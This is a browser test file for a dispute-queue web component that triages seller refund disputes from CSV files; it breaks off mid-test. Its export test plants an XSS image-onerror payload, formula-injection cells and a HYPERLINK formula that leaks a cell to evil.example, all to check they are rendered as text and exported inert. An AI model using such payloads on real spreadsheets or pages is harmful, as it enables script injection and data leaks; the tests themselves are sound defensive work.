// <dispute-queue> as a seller uses it, on the real page (www/queue.html, after `make www`): the
// template CSV; 1,000 rows in UTF-8, UTF-8 with a BOM and GBK; the mapping step with unknown
// headers, remembered; refused rows with their field; sort, filters, search; the detail view; export
// then re-import; Cancel mid-run; 20,000 rows with the progress bar moving; hostile cells kept as
// text and exported inert; file://; axe in both languages; 375 px. Screenshots in test-results/.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { join } from "node:path";
import iconv from "iconv-lite";
import Papa from "papaparse";
import { serve, launch, openPage, fileUrl, screenshot, repoRoot } from "./harness.mjs";
import { generateItems } from "../../queue/generate.js";
import { exportCsv, tableFromItems } from "../../queue/export.js";
import { parseCsv } from "../../queue/csv.js";
import { chineseHeaders } from "../../queue/fields.js";

const AS_OF = "2026-06-01";
// The package as a user installs it (scripts/test.sh), to compare the page's replies with.
const engine = createRequire(join(repoRoot, ".tmp/consumer/package.json"))("dispute-calc");
let server, browser;

before(async () => {
  server = await serve();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
});

/** The queue page over http (or from disk), with the element defined and an as-of date set. */
async function queuePage({ lang = "en", width = 1200, file = false, asOf = AS_OF } = {}) {
  const page = await openPage(browser, { viewport: { width, height: 900 }, locale: lang });
  await page.goto(file ? `${fileUrl("www/queue.html")}?lang=${lang}` : `${server.url}/www/queue.html?lang=${lang}`);
  await page.waitForFunction(() => customElements.get("dispute-queue") && document.querySelector("dispute-queue").dataset.state === "idle");
  if (asOf) await page.evaluate((d) => document.querySelector("dispute-queue").setAttribute("as-of", d), asOf);
  return page;
}

/** CSV text of generated items (the note is an extra column), as the core's export writes it. */
function csvOf(items, { chinese = false } = {}) {
  const table = tableFromItems(items);
  if (chinese) table.headers = chineseHeaders(table.headers);
  return exportCsv(table); // starts with a BOM
}

/** Gives the element a file and resolves to queue-done's detail. */
async function importFile(page, buffer, name = "disputes.csv") {
  await page.evaluate(() => {
    window.queueDone = new Promise((resolve) => document.querySelector("dispute-queue").addEventListener("queue-done", (e) => resolve(e.detail), { once: true }));
  });
  await page.locator("dispute-queue #file").setInputFiles({ name, mimeType: "text/csv", buffer });
  return page.evaluate(() => window.queueDone);
}

const entries = (page) => page.evaluate(() => document.querySelector("dispute-queue").entries);
const shadowText = (page, selector) => page.evaluate((s) => [...document.querySelector("dispute-queue").shadowRoot.querySelectorAll(s)].map((n) => n.textContent), selector);
/** The order ids of the rows in the DOM, in list order. */
const shownIds = (page) =>
  page.evaluate(() =>
    [...document.querySelector("dispute-queue").shadowRoot.querySelectorAll(".qbody .qrow")]
      .sort((a, b) => a.getAttribute("aria-rowindex") - b.getAttribute("aria-rowindex"))
      .map((row) => row.querySelector(".c-id").textContent),
  );
const stateOf = (page) => page.evaluate(() => ({ ...document.querySelector("dispute-queue").dataset }));

test("the template CSV (English and Chinese headers): every row triaged, the most urgent first", async () => {
  const page = await queuePage();
  const done = await importFile(page, await readFile(join(repoRoot, "queue/templates/disputes-en.csv")));
  assert.equal(done.rows, 5);
  assert.equal(done.refused, 0);
  assert.equal(Object.values(done.byOutcome).reduce((a, b) => a + b, 0), 5);
  assert.deepEqual(await stateOf(page), { state: "done", rows: "5", refused: "0" });
  const en = await entries(page);
  // Rows have their own asOf: the nearest deadline ahead of each row's own date comes first.
  const ahead = en.filter((e) => e.deadline).map((e) => e.deadline.daysLeft);
  assert.deepEqual(ahead, [...ahead].sort((a, b) => a - b));
  assert.ok(ahead.length >= 2);
  assert.equal(en.find((e) => e.id === "AE-2015-0001").outcome, "reject");
  // The list shows the same rows in the same order.
  assert.deepEqual(await shownIds(page), en.map((e) => e.id));
  const zh = await importFile(page, await readFile(join(repoRoot, "queue/templates/disputes-zh.csv")));
  assert.deepEqual(zh, done);
  const zhEntries = await entries(page);
  assert.deepEqual(zhEntries.map((e) => [e.id, e.outcome, e.refund, e.deadline]), en.map((e) => [e.id, e.outcome, e.refund, e.deadline]));
  assert.deepEqual(page.problems, []);
  await screenshot(page, "queue-template");
  await page.context().close();
});

for (const [encoding, bytes] of [
  ["UTF-8", (text) => Buffer.from(text.replace(/^\uFEFF/, ""), "utf8")],
  ["UTF-8 with BOM", (text) => Buffer.from(text, "utf8")],
  ["GBK (Chinese headers)", (text) => iconv.encode(text.replace(/^\uFEFF/, ""), "gbk")],
]) {
  test(`1,000 rows in ${encoding}: every row read, Chinese text intact, refused rows counted`, async () => {
    const items = generateItems(1000, { asOf: AS_OF, badEvery: 50 });
    const chinese = encoding.startsWith("GBK");
    const buffer = bytes(csvOf(items, { chinese }));
    if (chinese) assert.throws(() => new TextDecoder("utf-8", { fatal: true }).decode(buffer), "the GBK file is not UTF-8");
    const page = await queuePage();
    const done = await importFile(page, buffer);
    assert.equal(done.rows, 1000);
    assert.equal(done.refused, 20);
    const list = await entries(page);
    assert.equal(list.length, 1000);
    const byId = new Map(list.map((e) => [e.id, e]));
    for (const item of items) {
      const e = byId.get(item.orderId);
      assert.ok(e, item.orderId);
      assert.equal(e.extras[chinese ? "备注" : "note"], item.note, `${item.orderId}: the note as written`);
    }
    assert.ok(list.some((e) => /[\u4e00-\u9fff]/.test(Object.values(e.extras).join(""))));
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });
}

test("a file dropped on the drop zone is read as the picker's is; the zone shows it is a target while a file is over it", async () => {
  const page = await queuePage();
  const csv = (await readFile(join(repoRoot, "queue/templates/disputes-en.csv"), "utf8")).replace(/^\uFEFF/, "");
  const drop = page.locator("dispute-queue .drop");
  const dataTransfer = await page.evaluateHandle((text) => {
    const dt = new DataTransfer();
    dt.items.add(new File([text], "dropped.csv", { type: "text/csv" }));
    return dt;
  }, csv);
  await page.evaluate(() => {
    window.queueDone = new Promise((resolve) => document.querySelector("dispute-queue").addEventListener("queue-done", (e) => resolve(e.detail), { once: true }));
  });
  await drop.dispatchEvent("dragover", { dataTransfer });
  await page.waitForFunction(() => document.querySelector("dispute-queue").shadowRoot.querySelector(".drop").classList.contains("over"));
  await drop.dispatchEvent("drop", { dataTransfer });
  const done = await page.evaluate(() => window.queueDone);
  assert.deepEqual([done.rows, done.refused], [5, 0]);
  assert.equal(await drop.evaluate((n) => n.classList.contains("over")), false);
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("the mapping step: unknown headers are mapped once, remembered for the next file with those columns", async () => {
  const csv = [
    "Bestellnummer,Plattform,Grund,Waehrung,Betrag,Versand,Eroeffnet,Bemerkung",
    "DE-1,aliexpress,not_received,USD,25.99,2026-05-10,2026-05-30,erste",
    "DE-2,amazon,damaged_in_transit,USD,12.00,2026-05-20,2026-05-31,zweite",
  ].join("\r\n");
  const page = await queuePage();
  await page.locator("dispute-queue #file").setInputFiles({ name: "export.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
  await page.waitForSelector("dispute-queue .mapping:not([hidden])");
  assert.equal((await stateOf(page)).state, "idle");
  const missing = await shadowText(page, ".mapping .field-error");
  assert.match(missing[0], /orderId, ruleset, reason, currency, price/);
  await screenshot(page, "queue-mapping");
  const root = page.locator("dispute-queue");
  await root.locator("#map-orderId").selectOption("Bestellnummer");
  await root.locator("#map-ruleset").selectOption("Plattform");
  await root.locator("#map-reason").selectOption("Grund");
  await root.locator("#map-currency").selectOption("Waehrung");
  await root.locator("#map-price").selectOption("Betrag");
  // An optional field, from "Other fields".
  await root.locator(".mapping details summary").click();
  await root.locator("#map-dates-shipped").selectOption("Versand");
  await root.locator("#map-dates-opened").selectOption("Eroeffnet");
  await page.evaluate(() => {
    window.queueDone = new Promise((resolve) => document.querySelector("dispute-queue").addEventListener("queue-done", (e) => resolve(e.detail), { once: true }));
  });
  await root.locator(".mapping button[type=submit]").click();
  const done = await page.evaluate(() => window.queueDone);
  assert.deepEqual([done.rows, done.refused], [2, 0]);
  const first = await entries(page);
  assert.deepEqual(first.map((e) => e.id).sort(), ["DE-1", "DE-2"]);
  assert.equal(first.find((e) => e.id === "DE-1").extras.Bemerkung, "erste");
  // A new page, the same columns in another order: no mapping step, the same result.
  await page.reload();
  await page.waitForFunction(() => document.querySelector("dispute-queue")?.dataset.state === "idle");
  await page.evaluate((d) => document.querySelector("dispute-queue").setAttribute("as-of", d), AS_OF);
  const reordered = csv.split("\r\n").map((line) => { const c = line.split(","); return [c[7], ...c.slice(0, 7)].join(","); }).join("\r\n");
  const again = await importFile(page, Buffer.from(reordered));
  assert.deepEqual(again, done);
  assert.deepEqual((await entries(page)).map((e) => [e.id, e.outcome, e.deadline]), first.map((e) => [e.id, e.outcome, e.deadline]));
  assert.equal(await page.locator("dispute-queue .mapping").isHidden(), true);
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("refused rows are kept and shown with their field and a message in the page's language", async () => {
  const items = generateItems(40, { asOf: AS_OF, badEvery: 20 });
  const text = csvOf(items).replace(/\r\n(TA100004,[^\r]*)/, (all, line) => "\r\n" + line.replace(/,(\d+\.\d\d),/, ",12.345,"));
  const page = await queuePage();
  const done = await importFile(page, Buffer.from(text));
  assert.equal(done.rows, 40);
  assert.equal(done.refused, 3, "two delivered-before-shipped rows and one bad amount");
  const refused = (await entries(page)).filter((e) => e.outcome === "refused");
  assert.deepEqual(refused.map((e) => `${e.error.code} ${e.error.field}`).sort(), ["date_order dates.delivered", "date_order dates.delivered", "invalid_amount price"]);
  const root = page.locator("dispute-queue");
  await root.locator("#outcome-filter").selectOption("refused");
  const cells = await shadowText(page, ".qbody .qrow .c-deadline");
  assert.equal(cells.length, 3);
  assert.ok(cells.some((c) => c === "Price paid for the goods (price): not an allowed amount."), cells.join("\n"));
  assert.ok(cells.some((c) => /^Delivered \(tracking\) \(dates\.delivered\): out of order/.test(c)), cells.join("\n"));
  await screenshot(page, "queue-refused-en");
  await page.selectOption("#lang", "zh-CN");
  await page.waitForFunction(() => /[\u4e00-\u9fff]/.test(document.querySelector("dispute-queue").shadowRoot.querySelector(".qbody .c-deadline").textContent));
  const zh = await shadowText(page, ".qbody .qrow .c-deadline");
  assert.ok(zh.some((c) => c === "商品金额 (price)：金额不符合要求。" || /^[^:]*\(price\)[:：]\s?金额不符合要求。$/.test(c)), zh.join("\n"));
  await screenshot(page, "queue-refused-zh");
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("sort by any column, filter by outcome, ruleset and due date, search the order id", async () => {
  const page = await queuePage();
  await importFile(page, Buffer.from(csvOf(generateItems(600, { asOf: AS_OF, badEvery: 60 }))));
  const root = page.locator("dispute-queue");
  const all = await entries(page);
  // Urgency: deadlines ahead, nearest first; then refused rows; then the rest.
  const rank = (e) => (e.deadline ? 0 : e.outcome === "refused" ? 1 : 2);
  assert.deepEqual(all.map(rank), [...all.map(rank)].sort((a, b) => a - b));
  const ahead = all.filter((e) => e.deadline).map((e) => e.deadline.daysLeft);
  assert.deepEqual(ahead, [...ahead].sort((a, b) => a - b));
  // Refund: ascending, then descending on a second click (rows without a refund last).
  await root.locator('button.sort[data-column="refund"]').click();
  const up = (await entries(page)).filter((e) => e.refund !== null && e.currency === "CNY").map((e) => e.refund);
  assert.deepEqual(up, [...up].sort((a, b) => a - b));
  assert.equal(await root.locator('[role=columnheader]:has(button[data-column="refund"])').getAttribute("aria-sort"), "ascending");
  await root.locator('button.sort[data-column="refund"]').click();
  const down = (await entries(page)).filter((e) => e.refund !== null && e.currency === "CNY").map((e) => e.refund);
  assert.deepEqual(down, [...down].sort((a, b) => b - a));
  // Order id.
  await root.locator('button.sort[data-column="id"]').click();
  const ids = (await entries(page)).map((e) => e.id);
  assert.deepEqual(ids, [...ids].sort((a, b) => a.localeCompare(b, undefined, { numeric: true })));
  assert.deepEqual(await shadowText(page, ".qbody .qrow[aria-rowindex='2'] .c-id"), [ids[0]]);
  // Filters.
  await root.locator("#outcome-filter").selectOption("reject");
  assert.ok((await entries(page)).every((e) => e.outcome === "reject"));
  await root.locator("#outcome-filter").selectOption("");
  await root.locator("#ruleset-filter").selectOption("taobao");
  const taobao = await entries(page);
  assert.ok(taobao.length > 0 && taobao.every((e) => e.ruleset === "taobao"));
  await root.locator("#ruleset-filter").selectOption("");
  await root.locator("#due-within").fill("3");
  const due = await entries(page);
  assert.ok(due.length > 0 && due.every((e) => e.deadline && e.deadline.daysLeft <= 3));
  assert.equal(due.length, all.filter((e) => e.deadline && e.deadline.daysLeft <= 3).length);
  assert.match((await shadowText(page, "#count"))[0], new RegExp(`Showing ${due.length} of 600 rows`));
  await root.locator("#due-within").fill("");
  await root.locator("#search").fill("tm10000");
  const found = await entries(page);
  assert.deepEqual(found.map((e) => e.id).sort(), all.map((e) => e.id).filter((id) => /tm10000/i.test(id)).sort());
  assert.ok(found.length > 0);
  await root.locator("#search").fill("no-such-order");
  assert.equal((await entries(page)).length, 0);
  assert.equal(await root.locator(".empty").isVisible(), true);
  await root.locator("#search").fill("");
  await root.locator("#urgency").click();
  assert.deepEqual((await entries(page)).map((e) => e.id), all.map((e) => e.id));
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("the detail: Enter or a click on a row opens the order in <dispute-calculator view=result> with its text", async () => {
  const page = await queuePage();
  await importFile(page, await readFile(join(repoRoot, "queue/templates/disputes-en.csv")));
  const root = page.locator("dispute-queue");
  const list = await entries(page);
  // Keyboard: Tab reaches the first row; ArrowDown moves; Enter opens.
  await root.locator('button.sort[data-column="check"]').focus();
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.activeElement?.getAttribute("aria-rowindex")), "2");
  await page.keyboard.press("ArrowDown");
  assert.equal(await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.activeElement?.getAttribute("aria-rowindex")), "3");
  await page.keyboard.press("Enter");
  const calc = root.locator("dialog.detail dispute-calculator");
  await calc.locator("[data-outcome]").first().waitFor({ state: "attached" });
  await page.waitForFunction(() => document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator")?.hasAttribute("data-outcome"));
  const shown = await page.evaluate(() => {
    const c = document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator");
    return { outcome: c.getAttribute("data-outcome"), view: c.getAttribute("view"), reply: c.result.reply, summary: c.result.summary, heading: c.closest("dialog").querySelector("h2").textContent, open: c.closest("dialog").open };
  });
  assert.equal(shown.open, true);
  assert.equal(shown.view, "result");
  assert.equal(shown.heading, `Order ${list[1].id}`);
  assert.equal(shown.outcome, list[1].outcome);
  assert.ok(shown.reply && shown.reply.length > 20, "the reply text is on");
  await screenshot(page, "queue-detail");
  await page.keyboard.press("Escape");
  assert.equal(await root.locator("dialog.detail").isVisible(), false);
  // Focus goes back to the row.
  assert.equal(await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.activeElement?.getAttribute("aria-rowindex")), "3");
  // A click on another row.
  await root.locator(".qbody .qrow[aria-rowindex='4']").click();
  await page.waitForFunction((id) => document.querySelector("dispute-queue").shadowRoot.querySelector("dialog h2").textContent.includes(id) && document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator").getAttribute("data-outcome"), list[2].id);
  assert.equal(await root.locator("dispute-calculator").getAttribute("data-outcome"), list[2].outcome);
  await root.locator("dialog .close").click();
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("keyboard in a long list: End, Home, PageDown and arrows move the one tab stop, which stays rendered when scrolled away; a language switch re-renders in place", async () => {
  const page = await queuePage();
  await importFile(page, Buffer.from(csvOf(generateItems(2000, { asOf: AS_OF }))));
  const root = page.locator("dispute-queue");
  const focused = () => page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.activeElement?.getAttribute("aria-rowindex"));
  const scrollTop = () => page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.querySelector(".viewport").scrollTop);
  await root.locator('button.sort[data-column="check"]').focus();
  await page.keyboard.press("Tab");
  assert.equal(await focused(), "2");
  await page.keyboard.press("End");
  assert.equal(await focused(), "2001");
  assert.ok((await scrollTop()) > 0, "the last row is scrolled into view");
  await page.keyboard.press("Home");
  assert.equal(await focused(), "2");
  assert.equal(await scrollTop(), 0);
  // A page: the rows that fit in the viewport, less one.
  const pageRows = await page.evaluate(() => {
    const q = document.querySelector("dispute-queue").shadowRoot;
    return Math.floor(q.querySelector(".viewport").clientHeight / q.querySelector(".qbody .qrow").getBoundingClientRect().height) - 1;
  });
  assert.ok(pageRows >= 5, `${pageRows} rows a page`);
  await page.keyboard.press("PageDown");
  assert.equal(await focused(), String(2 + pageRows));
  await page.keyboard.press("ArrowUp");
  assert.equal(await focused(), String(1 + pageRows));
  await page.keyboard.press("PageUp");
  assert.equal(await focused(), "2");
  await page.keyboard.press("ArrowDown");
  // Scrolled far away with the mouse: the active row is still the one tab stop, in the DOM.
  await page.evaluate(() => {
    document.querySelector("dispute-queue").shadowRoot.querySelector(".viewport").scrollTop = 40000;
  });
  await page.waitForFunction(() => [...document.querySelector("dispute-queue").shadowRoot.querySelectorAll(".qbody .qrow")].some((r) => Number(r.getAttribute("aria-rowindex")) > 900));
  const stops = await page.evaluate(() => [...document.querySelector("dispute-queue").shadowRoot.querySelectorAll(".qbody .qrow[tabindex='0']")].map((r) => r.getAttribute("aria-rowindex")));
  assert.deepEqual(stops, ["3"]);
  assert.equal(await focused(), "3");
  // The language switch: every label re-rendered once the element's update is complete.
  await page.evaluate(async () => {
    const q = document.querySelector("dispute-queue");
    q.setAttribute("locale", "zh-CN");
    await q.updateComplete;
  });
  const zh = await page.evaluate(() => {
    const q = document.querySelector("dispute-queue").shadowRoot;
    return ["#list-h", "#count", "#message", "button.sort[data-column='refund']", "#export"].map((s) => q.querySelector(s).textContent);
  });
  for (const text of zh) assert.match(text, /[\u4e00-\u9fff]/, zh.join(" | "));
  assert.equal(await focused(), "3", "the focused row is kept");
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("export then re-import gives the same list; hostile cells are shown as text and exported inert", async () => {
  const items = generateItems(300, { asOf: AS_OF, badEvery: 30 });
  items[0].note = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
  items[1].orderId = "<img src=x onerror=window.pwned=1>";
  items[2].orderId = "=1+2";
  items[3].note = "@SUM(1+1)";
  items[4].note = "-12.5"; // a number: left as it is
  const page = await queuePage();
  await importFile(page, Buffer.from(csvOf(items)));
  const before = await entries(page);
  // Shown as text: no element made from a cell, the id as typed.
  const hostile = await page.evaluate(() => {
    const root = document.querySelector("dispute-queue").shadowRoot;
    return { imgs: root.querySelectorAll("img").length, pwned: window.pwned === 1 };
  });
  assert.deepEqual(hostile, { imgs: 0, pwned: false });
  await page.locator("dispute-queue #search").fill("<img");
  assert.deepEqual(await shadowText(page, ".qbody .qrow .c-id"), ["<img src=x onerror=window.pwned=1>"]);
  await page.locator("dispute-queue .qbody .qrow").first().click();
  await page.waitForFunction(() => document.querySelector("dispute-queue").shadowRoot.querySelector("dialog").open);
  assert.equal(await page.locator("dispute-queue #detail-h").textContent(), "Order <img src=x onerror=window.pwned=1>");
  assert.equal(await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.querySelectorAll("img").length), 0);
  await page.keyboard.press("Escape");
  await page.locator("dispute-queue #search").fill("");
  // The export: a download, UTF-8 with a BOM, formula cells neutralised.
  const [download] = await Promise.all([page.waitForEvent("download"), page.locator("dispute-queue #export").click()]);
  assert.match(download.suggestedFilename(), /^disputes-2026-06-01\.csv$/);
  const bytes = await readFile(await download.path());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const exported = parseCsv(bytes.toString("utf8")); // the core's reader (undoes the neutralising)
  const raw = bytes.toString("utf8");
  assert.ok(raw.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`), "the formula is quoted as text");
  assert.ok(raw.includes("'=1+2,"), "an id that would be a formula");
  assert.ok(raw.includes("'@SUM(1+1)"));
  assert.ok(raw.includes(",-12.5") && !raw.includes("'-12.5"), "numbers are left alone");
  assert.ok(raw.split("\r\n")[0].includes(",result.outcome,result.refund,result.fault,"));
  assert.equal(exported.records.length, 300);
  // Re-import the file as exported: the same list, the hostile cells as they were.
  const again = await importFile(page, bytes, download.suggestedFilename());
  assert.equal(again.rows, 300);
  const after = await entries(page);
  const key = (e) => JSON.stringify([e.id, e.outcome, e.refund, e.currency, e.fault, e.deadline, e.deadlines, e.failedCheck, e.error && [e.error.code, e.error.field], e.extras]);
  assert.deepEqual(after.map(key), before.map(key));
  assert.ok(after.some((e) => e.id === "=1+2"));
  assert.ok(after.some((e) => e.extras.note === items[0].note));
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("the export has each row's reply in its buyer's language: a buyerLanguage column, else the destination country, else the queue's language; or one language chosen for all", async () => {
  const ae = {
    ruleset: "aliexpress", reason: "not_received", request: "full_refund", asOf: "2015-04-20", currency: "USD", price: 2599,
    dates: { ordered: "2015-03-03", shipped: "2015-03-19", delivered: "2015-04-12", opened: "2015-04-20" }, tracking: "delivered",
  };
  const items = [
    { orderId: "A-RU", ...ae, destination: "RU" },
    { orderId: "B-BR", ...ae, destination: "BR" },
    { orderId: "C-DE", ...ae, destination: "US", buyerLanguage: "de-DE" },
    { orderId: "D-US", ...ae, destination: "US" },
    { orderId: "E-JP", ...ae, destination: "JP" },
    { orderId: "F-BAD", ...ae, ruleset: "nope" },
  ];
  const page = await queuePage({ lang: "zh-CN" });
  await importFile(page, Buffer.from(csvOf(items)));
  assert.equal((await entries(page)).filter((e) => e.outcome === "refused").length, 1);
  // The list above the table: each buyer's language by default, then the eleven.
  const options = await page.locator("dispute-queue #reply-locale option").evaluateAll((os) => os.map((o) => o.value));
  assert.deepEqual(options, ["", "en", "zh-CN", "ru", "pt-BR", "es", "fr", "de", "it", "pl", "ko", "ja"]);
  const exportRows = async () => {
    const [download] = await Promise.all([page.waitForEvent("download"), page.locator("dispute-queue #export").click()]);
    // All the columns, the results' too (the core's reader skips those, for a re-import).
    const [headers, ...records] = Papa.parse((await readFile(await download.path(), "utf8")).replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    const col = (name) => headers.indexOf(name);
    assert.ok(col("result.replyLocale") > 0 && col("result.reply") > 0, headers.join(","));
    return Object.fromEntries(records.map((r) => [r[col("orderId")], { locale: r[col("result.replyLocale")], reply: r[col("result.reply")] }]));
  };
  await Promise.all(["ru", "pt-BR", "de", "ja", "fr"].map((tag) => engine.loadLocale(tag)));
  const replyOf = (item, replyLocale) => {
    const { orderId, buyerLanguage, ...input } = item;
    return engine.evaluateDispute({ ...input, locale: "zh-CN", replyLocale }).reply;
  };
  const byBuyer = await exportRows();
  const expected = { "A-RU": "ru", "B-BR": "pt-BR", "C-DE": "de", "D-US": "zh-CN", "E-JP": "ja" };
  for (const [id, tag] of Object.entries(expected)) {
    assert.equal(byBuyer[id].locale, tag, id);
    assert.equal(byBuyer[id].reply, replyOf(items.find((i) => i.orderId === id), tag), id);
  }
  assert.deepEqual(byBuyer["F-BAD"], { locale: "", reply: "" });
  assert.match(byBuyer["A-RU"].reply, /[А-Яа-яЁё]/);
  assert.match(byBuyer["E-JP"].reply, /[\u3040-\u30ff]/);
  // The detail shows the row's reply in its buyer's language too.
  await page.locator("dispute-queue #search").fill("A-RU");
  await page.locator("dispute-queue .qbody .qrow").first().click();
  await page.waitForFunction(() => document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator")?.getAttribute("data-reply-locale") === "ru");
  assert.equal(await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator").result.reply), byBuyer["A-RU"].reply);
  await page.keyboard.press("Escape");
  await page.locator("dispute-queue #search").fill("");
  // One language for every row.
  await page.locator("dispute-queue #reply-locale").selectOption("fr");
  const french = await exportRows();
  for (const id of Object.keys(expected)) {
    assert.equal(french[id].locale, "fr", id);
    assert.equal(french[id].reply, replyOf(items.find((i) => i.orderId === id), "fr"), id);
  }
  await screenshot(page, "queue-reply-languages");
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("Cancel mid-run stops the run; evaluating again completes", async () => {
  const page = await queuePage();
  const buffer = Buffer.from(csvOf(generateItems(20000, { asOf: AS_OF })));
  await page.locator("dispute-queue #file").setInputFiles({ name: "big.csv", mimeType: "text/csv", buffer });
  await page.waitForFunction(() => {
    const p = document.querySelector("dispute-queue").shadowRoot.querySelector("progress");
    return p.hasAttribute("value") && p.value >= 2000;
  }, null, { timeout: 60000 });
  await page.locator("dispute-queue #cancel").click();
  await page.waitForFunction(() => document.querySelector("dispute-queue").dataset.state === "idle");
  const message = (await shadowText(page, "#message"))[0];
  const m = /^Stopped: ([\d,]+) of 20,000 rows evaluated/.exec(message);
  assert.ok(m, message);
  const stoppedAt = Number(m[1].replace(/,/g, ""));
  assert.ok(stoppedAt >= 2000 && stoppedAt < 20000, message);
  assert.equal(await page.locator("dispute-queue .list-panel").isHidden(), true);
  await screenshot(page, "queue-cancelled");
  await page.evaluate(() => {
    window.queueDone = new Promise((resolve) => document.querySelector("dispute-queue").addEventListener("queue-done", (e) => resolve(e.detail), { once: true }));
  });
  await page.locator("dispute-queue #run").click();
  const done = await page.evaluate(() => window.queueDone);
  assert.equal(done.rows, 20000);
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("20,000 rows: the run completes with the progress bar moving and the page responsive", async () => {
  const page = await queuePage();
  const buffer = Buffer.from(csvOf(generateItems(20000, { asOf: AS_OF, badEvery: 100 })));
  await page.evaluate(() => {
    const q = document.querySelector("dispute-queue");
    window.seen = [];
    window.longest = 0;
    let last = performance.now();
    const tick = () => {
      const now = performance.now();
      window.longest = Math.max(window.longest, now - last);
      last = now;
      const p = q.shadowRoot.querySelector("progress");
      if (q.dataset.state === "running" && p.hasAttribute("value") && window.seen.at(-1) !== p.value) window.seen.push(p.value);
      if (q.dataset.state !== "done") requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
  });
  const started = Date.now();
  const done = await importFile(page, buffer, "big.csv");
  const ms = Date.now() - started;
  assert.deepEqual([done.rows, done.refused], [20000, 200]);
  const seen = await page.evaluate(() => window.seen);
  assert.ok(seen.length >= 5, `progress values seen: ${seen.join(", ")}`);
  assert.deepEqual(seen, [...seen].sort((a, b) => a - b));
  // Scrolling to the end renders the last rows.
  await page.evaluate(() => {
    const vp = document.querySelector("dispute-queue").shadowRoot.querySelector(".viewport");
    vp.scrollTop = vp.scrollHeight;
  });
  await page.waitForFunction(() => !!document.querySelector("dispute-queue").shadowRoot.querySelector(".qbody .qrow[aria-rowindex='20001']"));
  const rendered = await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.querySelectorAll(".qbody .qrow").length);
  assert.ok(rendered < 80, `only the rows in view are in the DOM (${rendered})`);
  await screenshot(page, "queue-20000");
  console.log(`20,000 rows through the element: ${ms} ms to the list; longest frame gap ${Math.round(await page.evaluate(() => window.longest))} ms; progress steps seen ${seen.length}`);
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("file://: the page runs the queue with the worker started from a Blob URL", async () => {
  const page = await queuePage({ file: true });
  const done = await importFile(page, await readFile(join(repoRoot, "queue/templates/disputes-zh.csv")));
  assert.deepEqual([done.rows, done.refused], [5, 0]);
  assert.equal((await entries(page)).find((e) => e.id === "AE-2015-0001").outcome, "reject");
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

for (const lang of ["en", "zh-CN"]) {
  test(`axe-core (${lang}): nothing serious or critical in the import, mapping, list and detail`, async () => {
    const page = await queuePage({ lang });
    const axe = async (what) => {
      // From the page's own origin: its CSP refuses inline script.
      if (!(await page.evaluate(() => "axe" in window))) await page.addScriptTag({ url: `${server.url}/node_modules/axe-core/axe.min.js` });
      const violations = await page.evaluate(async () => {
        const r = await window.axe.run(document.querySelector("dispute-queue"), { resultTypes: ["violations"] });
        return r.violations.map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.map((n) => JSON.stringify(n.target)).slice(0, 4) }));
      });
      const serious = violations.filter((v) => v.impact === "serious" || v.impact === "critical");
      assert.deepEqual(serious, [], `${what} ${lang}: ${JSON.stringify(serious)}`);
    };
    await axe("import");
    await page.locator("dispute-queue #file").setInputFiles({ name: "x.csv", mimeType: "text/csv", buffer: Buffer.from("Nr,Plattform\r\n1,taobao\r\n") });
    await page.waitForSelector("dispute-queue .mapping:not([hidden])");
    await axe("mapping");
    await importFile(page, Buffer.from(csvOf(generateItems(200, { asOf: AS_OF, badEvery: 25 }), { chinese: lang !== "en" })));
    if (lang !== "en") assert.match((await shadowText(page, "#list-h"))[0], /[\u4e00-\u9fff]/);
    await axe("list");
    await screenshot(page, `queue-list-${lang}`);
    await page.locator("dispute-queue .qbody .qrow").first().click();
    await page.waitForFunction(() => document.querySelector("dispute-queue").shadowRoot.querySelector("dispute-calculator")?.hasAttribute("data-outcome"));
    await axe("detail");
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });
}

test("375 px wide: short-line rows with whole badges and amounts, nothing wider than the screen", async () => {
  const page = await queuePage({ width: 375 });
  await importFile(page, Buffer.from(csvOf(generateItems(100, { asOf: AS_OF, badEvery: 10 }))));
  const sizes = await page.evaluate(() => {
    const q = document.querySelector("dispute-queue");
    const row = q.shadowRoot.querySelector(".qbody .qrow");
    // A cell cut by its ellipsis is wider inside than out.
    const cut = [...q.shadowRoot.querySelectorAll(".qbody .c-outcome, .qbody .c-refund")]
      .filter((c) => c.scrollWidth > c.clientWidth + 1)
      .map((c) => c.textContent);
    return { doc: document.documentElement.scrollWidth, narrow: q.shadowRoot.querySelector(".base").classList.contains("narrow"), row: row.getBoundingClientRect().width, grid: q.shadowRoot.querySelector(".qgrid").scrollWidth, cut };
  });
  assert.deepEqual(sizes.cut, []);
  assert.ok(sizes.doc <= 375, `document ${sizes.doc} px wide`);
  assert.equal(sizes.narrow, true);
